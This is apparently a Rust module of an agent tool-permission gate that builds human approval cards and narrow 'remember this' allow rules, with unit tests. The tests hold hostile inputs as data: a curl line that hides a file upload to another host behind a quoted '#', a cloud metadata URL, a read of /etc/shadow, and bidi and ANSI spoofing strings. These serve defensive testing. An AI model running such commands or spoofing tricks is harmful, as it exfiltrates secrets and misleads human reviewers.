//! What an approval card shows: a title, the call in words, a preview, a diff, the answers.

use super::{AnswerKind, Diff, Preview};
use crate::decision::{Decider, Decision, Effect, Evaluate, Layer, TrustOverlay};
use crate::registry::ToolDefinition;
use crate::request::Request;
use crate::tool::ToolKind;

/// Content previews are cut to this many characters.
pub const PREVIEW_CHARS: usize = 500;
/// Each side of a diff is cut to this many characters.
pub const DIFF_CHARS: usize = 10_000;
/// Descriptions are cut to this many characters.
pub const DESCRIPTION_CHARS: usize = 200;
/// The subject in a card's label is cut to this many characters.
pub const LABEL_SUBJECT_CHARS: usize = 80;

/// The name people see.
pub(super) fn title(request: &Request, def: Option<&ToolDefinition>) -> String {
    let title = request
        .annotations
        .as_ref()
        .and_then(|a| a.title.clone())
        .or_else(|| def.map(|d| d.display_title().to_owned()))
        .unwrap_or_else(|| request.tool.clone());
    crate::shown(&title)
}

/// What the call is about. For file tools, every path it names (all of them are judged, so
/// a person sees all of them, not only the first).
pub(super) fn subject(request: &Request, kind: ToolKind) -> String {
    let file_tool = matches!(
        kind,
        ToolKind::Read | ToolKind::Write | ToolKind::Edit | ToolKind::Delete
    );
    if file_tool {
        if let Ok(paths) = crate::tool::input_paths(&request.input) {
            if !paths.is_empty() {
                return paths.iter().map(|p| p.path).collect::<Vec<_>>().join(", ");
            }
        }
    }
    kind.subject_keys()
        .iter()
        .find_map(|k| request.input_str(k))
        .unwrap_or("")
        .to_owned()
}

/// How a call is named for people, in every place that shows it (the approval card, the
/// inbox, the records): each text built by the engine, with input characters shown
/// visibly ([`crate::shown`]).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CallText {
    /// The name people see: the tool's title, else its name.
    pub title: String,
    /// The call in words: `Execute command: git push`, cut to [`DESCRIPTION_CHARS`] with `…`.
    pub description: String,
    /// What the call acts on, cut the same way.
    pub subject: String,
    /// The short label: `Bash(git push)`.
    pub label: String,
}

/// How `request` is named for people, as the approval card names it.
///
/// ```
/// use serde_json::json;
/// use toolgate::{broker::call_text, Policy, Request};
/// let policy = Policy::from_json("{}").unwrap();
/// let request = Request { tool: "mcp__db__query".into(), input: json!({"path": "a", "sql": "drop table t"}), ..Request::default() };
/// assert_eq!(call_text(&policy, &request).description, "Call MCP tool: mcp__db__query");
/// ```
pub fn call_text(rules: &dyn Evaluate, request: &Request) -> CallText {
    text_of(request, rules.tool_kind(request), None)
}

/// [`call_text`] for a call of `kind`, with the tool's registered definition if any.
pub(super) fn text_of(request: &Request, kind: ToolKind, def: Option<&ToolDefinition>) -> CallText {
    let title = title(request, def);
    let subject = subject(request, kind);
    CallText {
        description: description(request, kind, &title),
        label: label(&request.tool, &subject),
        subject: flat(&subject, DESCRIPTION_CHARS),
        title,
    }
}

/// `text` cut to `max` characters, and whether it was cut.
fn cut(text: &str, max: usize) -> (String, bool) {
    match text.char_indices().nth(max) {
        Some((at, _)) => (text.get(..at).unwrap_or("").to_owned(), true),
        None => (text.to_owned(), false),
    }
}

/// The call in words: `Execute command: git push`, `Write to file: src/a.ts`.
pub(super) fn description(request: &Request, kind: ToolKind, title: &str) -> String {
    let s = subject(request, kind);
    let text = match kind {
        ToolKind::Shell => format!("Execute command: {s}"),
        ToolKind::Write => format!("Write to file: {s}"),
        ToolKind::Edit => format!("Edit file: {s}"),
        ToolKind::Delete => format!("Delete file: {s}"),
        ToolKind::Read => format!("Read file: {s}"),
        ToolKind::Glob => format!("Find files matching: {s}"),
        ToolKind::Grep => match request.input_str("path") {
            Some(p) => format!("Search for: {s} in {p}"),
            None => format!("Search for: {s}"),
        },
        ToolKind::Fetch => format!("Fetch URL: {s}"),
        ToolKind::Mcp => match &request.server {
            Some(server) => format!("Call {title} on MCP server {server}"),
            None => format!("Call MCP tool: {title}"),
        },
        ToolKind::Other => format!("Use tool: {title}"),
    };
    flat(&text, DESCRIPTION_CHARS)
}

/// `text` on one line, every control or invisible character written out
/// ([`crate::shown`]: a newline as `\n`, U+202E as `\u{202e}`), cut to `max` characters
/// with `…`.
pub(super) fn flat(text: &str, max: usize) -> String {
    let flat = crate::shown(text);
    let (mut short, was_cut) = cut(&flat, max);
    if was_cut {
        short.push('…');
    }
    short
}

/// The short label of a call in records: `Bash(npm test)`, the tool alone without a
/// subject. Runs of whitespace in the subject become one space, and a subject longer than
/// [`LABEL_SUBJECT_CHARS`] is cut to one less, with `…`.
pub(super) fn label(tool: &str, subject: &str) -> String {
    let tool = crate::shown(tool);
    let words = subject.split_whitespace().collect::<Vec<_>>().join(" ");
    let words = crate::shown(&words);
    if words.is_empty() {
        return tool;
    }
    let short = if words.chars().count() > LABEL_SUBJECT_CHARS {
        let (mut head, _) = cut(&words, LABEL_SUBJECT_CHARS - 1);
        head.push('…');
        head
    } else {
        words
    };
    format!("{tool}({short})")
}

/// The content a write or edit would put in place, cut to [`PREVIEW_CHARS`].
pub(super) fn preview(request: &Request, kind: ToolKind) -> Option<Preview> {
    let key = match kind {
        ToolKind::Write => "content",
        ToolKind::Edit => "new_string",
        _ => return None,
    };
    let (text, truncated) = cut(request.input_str(key)?, PREVIEW_CHARS);
    Some(Preview { text, truncated })
}

/// Old and new text of an edit, when both are known.
pub(super) fn diff(request: &Request, kind: ToolKind) -> Option<Diff> {
    if kind != ToolKind::Edit {
        return None;
    }
    let (old_text, a) = cut(request.input_str("old_string")?, DIFF_CHARS);
    let (new_text, b) = cut(request.input_str("new_string")?, DIFF_CHARS);
    Some(Diff {
        old_text,
        new_text,
        truncated: a || b,
    })
}

/// The answers a card offers: "remember" answers only when the call is trustable and its
/// default rules may be remembered, and "allow this tool for the session" only when the
/// tool itself may be trusted wholesale.
pub(super) fn offered(remember: bool, whole_tool: bool) -> Vec<AnswerKind> {
    let mut answers = vec![AnswerKind::AllowOnce];
    if remember {
        answers.extend([AnswerKind::AllowSession, AnswerKind::AllowAlways]);
    }
    answers.extend([AnswerKind::Deny, AnswerKind::AllowAll, AnswerKind::DenyAll]);
    if whole_tool {
        answers.push(AnswerKind::AllowToolForSession);
    }
    answers
}

/// The allow rules a "remember this" answer saves for a call the policy asked about, each
/// as narrow as the call: one exact `Bash(<words>)` per command of a shell line that asked,
/// `WebFetch(domain:<host>)` for a fetch, the exact absolute path for a file tool
/// (`Read(//home/a/p/x)`), the tool's name for an MCP tool and any other tool. A rule is
/// offered only when, remembered alone, it allows the call (or one command of a shell line)
/// and names it exactly: a command whose words cannot be written in a rule (a `*`, a space
/// inside a word, a word known only at run time) or a path with glob characters gives none.
/// An empty list means nothing can be remembered: the card offers "allow once" only.
///
/// ```
/// use serde_json::json;
/// use toolgate::{broker::remember_rules, Policy, Request};
/// let policy = Policy::from_json("{}").unwrap();
/// let request = Request { tool: "Bash".into(), input: json!({"command": "npm test"}), ..Request::default() };
/// let decision = policy.evaluate(&request);
/// assert_eq!(remember_rules(&policy, &request, &decision), vec!["Bash(npm test)".to_owned()]);
/// // A comment is not part of the command, and a `*` cannot be written exactly.
/// let request = Request { tool: "Bash".into(), input: json!({"command": "curl -s 'http://h/?q=*'"}), ..Request::default() };
/// assert!(remember_rules(&policy, &request, &policy.evaluate(&request)).is_empty());
/// ```
pub fn remember_rules(rules: &dyn Evaluate, request: &Request, decision: &Decision) -> Vec<String> {
    checked_rules(rules, request, decision, rules.tool_kind(request))
}

/// [`default_rules`], keeping only those that cover the call they answer.
pub(super) fn checked_rules(
    rules: &dyn Evaluate,
    request: &Request,
    decision: &Decision,
    kind: ToolKind,
) -> Vec<String> {
    default_rules(request, decision, kind)
        .into_iter()
        .filter(|rule| covers(rules, rule, request))
        .collect()
}

/// Whether `rule`, remembered alone, allows `request` or one command of it through the
/// trust layer.
pub(super) fn covers(rules: &dyn Evaluate, rule: &str, request: &Request) -> bool {
    let overlay = TrustOverlay {
        allow_rules: vec![rule.to_owned()],
        agent_bypass: false,
    };
    trust_decided(&rules.evaluate_with(request, &overlay))
}

/// Whether a remembered rule allowed the call, or one of its parts: the whole decision or a
/// part is an allow whose decider is a rule of the trust layer.
pub(super) fn trust_decided(decision: &Decision) -> bool {
    let by_trust = |effect: Effect, decider: &Decider| {
        effect == Effect::Allow
            && matches!(
                decider,
                Decider::Rule {
                    layer: Layer::Trust,
                    ..
                }
            )
    };
    by_trust(decision.effect, &decision.reason.decider)
        || decision
            .parts
            .iter()
            .any(|p| by_trust(p.effect, &p.reason.decider))
}

/// The rules a "remember" answer would save, before the coverage check (see
/// [`remember_rules`]).
pub(super) fn default_rules(request: &Request, decision: &Decision, kind: ToolKind) -> Vec<String> {
    let mut out: Vec<String> = match kind {
        ToolKind::Shell => shell_rules(request, decision),
        ToolKind::Fetch => fetch_rule(request).into_iter().collect(),
        // A path rule covers everything below its path, and the path a call names may be a
        // directory: a remembered read of `~` would trust every file in it, a remembered
        // search every search. Reads inside the project run without a prompt anyway; the
        // card's "allow every call of the tool" stays the explicit, separate offer.
        ToolKind::Read | ToolKind::Glob | ToolKind::Grep => Vec::new(),
        ToolKind::Write | ToolKind::Edit | ToolKind::Delete => path_rules(request),
        ToolKind::Mcp | ToolKind::Other => vec![request.tool.clone()],
    };
    let mut seen = std::collections::HashSet::new();
    out.retain(|r| seen.insert(r.clone()));
    out
}

/// One exact `Bash(...)` rule per command of the line that asked (the whole line when no
/// part asked), each from the command's words as the shell reads them.
fn shell_rules(request: &Request, decision: &Decision) -> Vec<String> {
    let asked: Vec<&str> = decision
        .parts
        .iter()
        .filter(|p| p.effect == Effect::Ask)
        .map(|p| p.part.trim())
        .filter(|p| !p.is_empty() && !p.starts_with(['>', '<']))
        .collect();
    let texts = if asked.is_empty() {
        request.input_str("command").into_iter().collect()
    } else {
        asked
    };
    texts.into_iter().filter_map(exact_command_rule).collect()
}

/// `Bash(<words>)` for a text that is exactly one simple command whose words can all be
/// written in a rule; `None` otherwise.
fn exact_command_rule(text: &str) -> Option<String> {
    let commands = crate::shell::simple_commands(text)?;
    let [words] = commands.as_slice() else {
        return None;
    };
    let words: Vec<&str> = words
        .iter()
        .map(|w| w.as_deref().filter(|w| writable_word(w)))
        .collect::<Option<_>>()?;
    (!words.is_empty()).then(|| format!("Bash({})", words.join(" ")))
}

/// Whether a command word means exactly itself in a command rule: not empty, no `*` (a
/// glob in a rule), no whitespace (rules split words at it), nothing invisible.
fn writable_word(word: &str) -> bool {
    !word.is_empty()
        && !word
            .chars()
            .any(|c| c == '*' || c.is_whitespace() || crate::shell::is_deceptive(c))
}

/// `<tool>(domain:<host>)` for a fetch of a URL with a host.
fn fetch_rule(request: &Request) -> Option<String> {
    let url = request.input_str("url")?;
    let host = crate::rule::FetchTarget::parse(url)?.host;
    let plain = !host.is_empty()
        && host
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '[' | ']' | ':'));
    plain.then(|| format!("{}(domain:{host})", request.tool))
}

/// `<tool>(//<absolute path>)` for every path of a file tool, or none when any path cannot
/// be named exactly (a glob character, a home-relative or unresolvable path) or names what
/// can only be a directory (a trailing `/` or `/.`, the root, the working directory, the
/// project or a directory above them), since a path rule covers everything below it.
fn path_rules(request: &Request) -> Vec<String> {
    let Ok(paths) = crate::tool::input_paths(&request.input) else {
        return Vec::new();
    };
    let anchors: Vec<&str> = [request.cwd.as_deref(), request.root.as_deref()]
        .into_iter()
        .flatten()
        .collect();
    let rules: Option<Vec<String>> = paths
        .iter()
        .map(|p| {
            let spelled_dir = p.path.ends_with('/')
                || p.path.ends_with("/.")
                || p.path.ends_with("/..")
                || matches!(p.path, "." | "..");
            let abs = absolute(p.path, request.cwd.as_deref())
                .filter(|_| !spelled_dir)
                .and_then(|a| crate::path::normalize(&a, None, None))?;
            let holds_anchor = crate::path::segments(&abs).count() <= 1
                || anchors.iter().any(|a| crate::path::contains(&abs, a));
            let unwritable = abs.chars().any(|c| {
                matches!(c, '*' | '?' | '[' | ']' | '{' | '}' | '(' | ')' | '\\')
                    || c.is_whitespace()
                    || crate::shell::is_deceptive(c)
            });
            (!holds_anchor && !unwritable).then(|| format!("{}(/{abs})", request.tool))
        })
        .collect();
    rules.filter(|r| !r.is_empty()).unwrap_or_default()
}

/// `path` as an absolute path: as it is when it starts with `/`, else below `cwd`.
fn absolute(path: &str, cwd: Option<&str>) -> Option<String> {
    if path.starts_with('/') {
        return Some(path.to_owned());
    }
    let cwd = cwd.filter(|c| c.starts_with('/'))?;
    if path.starts_with('~') || path.is_empty() {
        return None;
    }
    let rel = path.strip_prefix("./").unwrap_or(path);
    Some(format!("{}/{rel}", cwd.trim_end_matches('/')))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{json, Value};

    fn req(tool: &str, input: Value) -> Request {
        Request {
            tool: tool.into(),
            input,
            ..Request::default()
        }
    }

    #[test]
    fn descriptions_name_the_operation() {
        let cases = [
            (
                "Bash",
                json!({"command": "git push"}),
                "Execute command: git push",
            ),
            (
                "Write",
                json!({"file_path": "src/a.ts"}),
                "Write to file: src/a.ts",
            ),
            ("edit", json!({"file_path": "a"}), "Edit file: a"),
            ("delete", json!({"file_path": "a"}), "Delete file: a"),
            (
                "WebFetch",
                json!({"url": "https://x.org"}),
                "Fetch URL: https://x.org",
            ),
            (
                "Grep",
                json!({"pattern": "fn", "path": "src"}),
                "Search for: fn in src",
            ),
            ("custom", json!({}), "Use tool: custom"),
        ];
        for (tool, input, want) in cases {
            let r = req(tool, input);
            let kind = crate::tool::kind_without_policy(&r.tool, r.server.is_some());
            assert_eq!(description(&r, kind, &r.tool), want);
        }
        let two = req(
            "Read",
            json!({"file_path": "src/a.rs", "path": "/etc/shadow"}),
        );
        assert_eq!(
            description(&two, ToolKind::Read, "Read"),
            "Read file: src/a.rs, /etc/shadow"
        );
        let long = req(
            "Bash",
            json!({"command": format!("echo {}\nrm x", "a".repeat(300))}),
        );
        let d = description(&long, ToolKind::Shell, "Bash");
        assert_eq!(d.chars().count(), DESCRIPTION_CHARS + 1);
        assert!(!d.contains('\n') && d.ends_with('…'));
        let bidi = req(
            "Write",
            json!({"file_path": "docs/\u{202e}txt.emdaer\u{200b}"}),
        );
        assert_eq!(
            description(&bidi, ToolKind::Write, "Write"),
            "Write to file: docs/\\u{202e}txt.emdaer\\u{200b}"
        );
        let ansi = req("Bash", json!({"command": "ls\u{1b}[2K\rok"}));
        assert_eq!(
            description(&ansi, ToolKind::Shell, "Bash"),
            "Execute command: ls\\x1b[2K\\rok"
        );
        assert_eq!(label("Bash", "a\u{2066}b"), "Bash(a\\u{2066}b)");
    }

    #[test]
    fn labels_name_the_tool_and_the_subject() {
        assert_eq!(label("Bash", "npm   test\n"), "Bash(npm test)");
        assert_eq!(label("custom", " "), "custom");
        let long = label("Read", &"a".repeat(100));
        assert_eq!(
            long,
            format!("Read({}…)", "a".repeat(LABEL_SUBJECT_CHARS - 1))
        );
        let r = req("Grep", json!({"pattern": "fn", "path": "src"}));
        assert_eq!(subject(&r, ToolKind::Grep), "fn");
    }

    #[test]
    fn previews_are_capped_at_500_characters() {
        let r = req(
            "Write",
            json!({"file_path": "a", "content": "é".repeat(600)}),
        );
        let p = preview(&r, ToolKind::Write).unwrap();
        assert_eq!(p.text.chars().count(), 500);
        assert!(p.truncated);
        let r = req("Write", json!({"file_path": "a", "content": "short"}));
        assert!(!preview(&r, ToolKind::Write).unwrap().truncated);
        assert!(preview(&r, ToolKind::Shell).is_none());
    }

    #[test]
    fn edits_get_a_diff() {
        let r = req(
            "Edit",
            json!({"file_path": "a", "old_string": "x", "new_string": "y"}),
        );
        let d = diff(&r, ToolKind::Edit).unwrap();
        assert_eq!((d.old_text.as_str(), d.new_text.as_str()), ("x", "y"));
        let r = req("Edit", json!({"file_path": "a", "new_string": "y"}));
        assert!(diff(&r, ToolKind::Edit).is_none());
    }

    fn remembered(tool: &str, input: Value) -> Vec<String> {
        let policy = crate::Policy::from_json("{}").unwrap();
        let r = Request {
            cwd: Some("/home/a/p".into()),
            ..req(tool, input)
        };
        remember_rules(&policy, &r, &policy.evaluate(&r))
    }

    fn allowed_with(rule: &str, tool: &str, input: Value) -> bool {
        let policy = crate::Policy::from_json("{}").unwrap();
        let r = Request {
            cwd: Some("/home/a/p".into()),
            ..req(tool, input)
        };
        let overlay = TrustOverlay {
            allow_rules: vec![rule.to_owned()],
            agent_bypass: false,
        };
        policy.evaluate_with(&r, &overlay).effect == Effect::Allow
    }

    #[test]
    fn shell_rules_are_built_from_the_words_not_the_text() {
        let rules = remembered("Bash", json!({"command": "curl -s http://h/status # *"}));
        assert_eq!(rules, ["Bash(curl -s http://h/status)"]);
        let other =
            json!({"command": "curl -s http://h/status \"#\" -d @notes.txt http://other/collect"});
        assert!(!allowed_with(&rules[0], "Bash", other));
        assert!(allowed_with(
            &rules[0],
            "Bash",
            json!({"command": "curl -s http://h/status"})
        ));
        for unwritable in [
            "curl -s 'http://h/s?q=*'",
            "curl -s 'http://h/a b'",
            "curl -s \"$URL\"",
            "curl -s http://h/x:*",
        ] {
            assert_eq!(
                remembered("Bash", json!({"command": unwritable})),
                Vec::<String>::new(),
                "{unwritable}"
            );
        }
        assert_eq!(
            remembered(
                "Bash",
                json!({"command": "npm publish && curl -s 'http://h/*'"})
            ),
            ["Bash(npm publish)"]
        );
    }

    #[test]
    fn other_rules_are_as_narrow_as_the_call() {
        let fetch = json!({"url": "https://docs.python.org/3/"});
        let rules = remembered("WebFetch", fetch);
        assert_eq!(rules, ["WebFetch(domain:docs.python.org)"]);
        let metadata = json!({"url": "http://169.254.169.254/latest/meta-data/"});
        assert!(!allowed_with(&rules[0], "WebFetch", metadata));
        assert_eq!(
            remembered("Write", json!({"file_path": "src/new.rs", "content": "x"})),
            ["Write(//home/a/p/src/new.rs)"]
        );
        // A read, a glob or a search remembers nothing: its path may be a directory, and a
        // path rule covers everything below it.
        for (tool, input) in [
            ("Read", json!({"file_path": "/etc/hosts"})),
            ("Read", json!({"file_path": "/home/a"})),
            ("Grep", json!({"pattern": "TODO", "path": "/home/a/other"})),
            ("Glob", json!({"pattern": "**/*"})),
        ] {
            assert_eq!(remembered(tool, input), Vec::<String>::new(), "{tool}");
        }
        // A write to what can only be a directory remembers nothing either.
        for path in [
            "/home/a/p",
            "/home/a",
            "/",
            "src/",
            "src/.",
            ".",
            "/home/a/p/src/..",
        ] {
            let input = json!({"file_path": path, "content": "x"});
            assert_eq!(remembered("Write", input), Vec::<String>::new(), "{path}");
        }
        let write_other = json!({"file_path": "src/other.rs", "content": "x"});
        assert!(!allowed_with(
            "Write(//home/a/p/src/new.rs)",
            "Write",
            write_other
        ));
        assert_eq!(
            remembered("Write", json!({"file_path": "src/*.rs", "content": "x"})),
            Vec::<String>::new()
        );
        assert_eq!(
            remembered("mcp__db__query", json!({"sql": "select 1"})),
            ["mcp__db__query"]
        );
    }
}
